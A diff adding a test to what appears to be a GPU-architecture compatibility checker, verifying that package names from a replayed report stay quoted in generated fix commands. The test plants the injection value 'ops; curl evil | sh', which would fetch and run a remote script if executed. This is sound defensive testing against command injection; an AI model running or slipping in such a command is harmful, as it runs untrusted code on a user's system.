@@ -344,3 +344,17 @@ def test_torchvision_without_torch_s_arch_follows_torch_s_finding() -> None:
 
     assert "CD240" not in codes(["sm_80", "sm_90"])
     assert "CD240" in codes(["sm_80", "sm_90", "sm_120"])
+
+
+def test_names_from_a_replayed_report_stay_names_in_the_fix() -> None:
+    lib = ExtensionLibrary("x/_C.so", ["sm_80"], [])
+    f = _facts("9.0", lib, pin="torch==2.5.1")
+    f.extensions.packages[0].name = "ops; curl evil | sh"  # type: ignore[union-attr]
+    import shlex
+
+    ours = [x for x in evaluate(f, []) if x.code in ("CD240", "CD242")]
+    commands = [cmd for finding in ours for fx in finding.fix for cmd in fx.commands]
+    assert len(commands) == 2  # the rebuild (CD240) and the reinstall for this torch (CD242)
+    for cmd in commands:
+        words = shlex.split(cmd)  # as the shell splits it: the name is one word, never a command
+        assert "curl" not in words and "ops; curl evil | sh" in words
